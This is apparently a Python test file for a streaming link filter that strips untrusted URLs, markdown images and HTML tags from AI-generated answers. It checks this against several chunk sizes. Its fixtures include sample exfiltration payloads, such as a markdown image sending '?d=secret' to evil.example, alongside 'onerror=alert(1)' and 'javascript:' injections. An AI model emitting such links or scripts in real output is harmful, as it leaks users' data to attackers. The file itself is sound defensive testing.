"""An answer points at nothing that nobody gave, however it comes in pieces."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.gateway.pipeline.links import REMOVED, LinkGuard
from tests.kit.injections import ATTACKS, SINK

KNOWN = "See https://docs.example/page?id=7 for more."


def guarded(
    text: str, size: int = 0, texts: tuple[str, ...] = (), uris: tuple[str, ...] = ()
) -> str:
    guard = LinkGuard(texts, uris)
    if not size:
        return guard.feed(text) + guard.finish()
    pieces = [guard.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join(pieces) + guard.finish()


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Look ![x](https://evil.example/p.png?d=secret) here.", "Look [x] here."),
        ("[Click](https://evil.example/a) now.", "[Click] now."),
        ("[1](https://evil.example) is cited", "[1] is cited"),
        ("see https://evil.example/q?a=b.", f"see {REMOVED}."),
        ("see https://docs.example/page?id=7.", "see https://docs.example/page?id=7."),
        ("see https://docs.example/page?id=8.", f"see {REMOVED}."),
        ("[here](https://own.example/a)", "[here](https://own.example/a)"),
        ("[here](https://own.example/a?q=secret)", "[here]"),
        ("[a](//evil.example/x)", "[a]"),
        ("[a](javascript:alert(1)) b", "[a] b"),
        ("<img src=x onerror=alert(1)> hi", "  hi"),
        ("<img src=https://evil.example", f"‹img src={REMOVED}"),
        ("<im<img>g src=x>", "<im g src=x>"),
        ("Yes![1] No!", "Yes![1] No!"),
        ("text [1](see below) end", "text [1](see below) end"),
        ("if a <b and c< d then a<=b", "if a <b and c< d then a<=b"),
        ("data: yes, http: no", "data: yes, http: no"),
        ("hid\u200bden\u202e", "hidden"),
    ],
)
def test_what_is_shown(text: str, shown: str) -> None:
    assert guarded(text, texts=(KNOWN,), uris=("https://own.example/doc", "file.md")) == shown


@given(
    st.lists(
        st.sampled_from(
            [
                *("!", "[", "]", "(", ")", "<", ">", "img", "https://", "evil.example", " ", "a"),
                *("//", "[1]", "javascript:", "?q=1", "\n", "h", "src=", "http:", "![x](", "/"),
                "<a href=",
            ]
        ),
        max_size=14,
    ).map("".join),
    st.integers(1, 9),
)
def test_pieces_make_no_difference_and_no_link_is_left(text: str, size: int) -> None:
    shown = guarded(text)
    assert guarded(text, size) == shown
    assert not re.search(r"!\[[^\]\n]*\]\([^)\n]+\)", shown)
    assert "https://evil" not in shown
    assert not re.search(r"<(?:img|a)\b[^>]*>", shown)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_attack_leaves_an_address_behind(attack: object) -> None:
    shown = guarded(getattr(attack, "text"))  # noqa: B009 - ids need plain objects
    assert SINK not in shown
    assert "](http" not in shown
    assert not re.search(r"<(?:img|iframe|script|svg|a)\b", shown)


def test_an_answer_that_never_ends_its_address_is_not_kept_for_ever() -> None:
    guard = LinkGuard()
    held = guard.feed("https://" + "a" * 5_000)
    assert REMOVED in held
    assert len(guard.finish()) < 10


def test_words_behind_a_bracket_are_shown_as_they_come() -> None:
    guard = LinkGuard()
    assert guard.feed("granite [1](which the survey ") == "granite [1](which the survey "
    assert guard.feed("saw at http") == "saw at "
    assert guard.feed("://nowhere.example/?q=1 and) ") == f"{REMOVED} and) "


def test_an_address_behind_a_bracket_is_held_until_its_link_ends() -> None:
    guard = LinkGuard()
    assert guard.feed("granite [here](//nowhere.example/?q=1 ") == "granite [here"
    assert guard.feed('"a title') == ""
    assert guard.feed('") forms') == "] forms"


def test_a_tag_that_does_not_end_is_shown_without_its_sign() -> None:
    guard = LinkGuard()
    shown = guard.feed("heavy if <a " + "and so on " * 100)
    assert shown.startswith("heavy if ‹a and")
    assert "<a" not in shown + guard.finish()
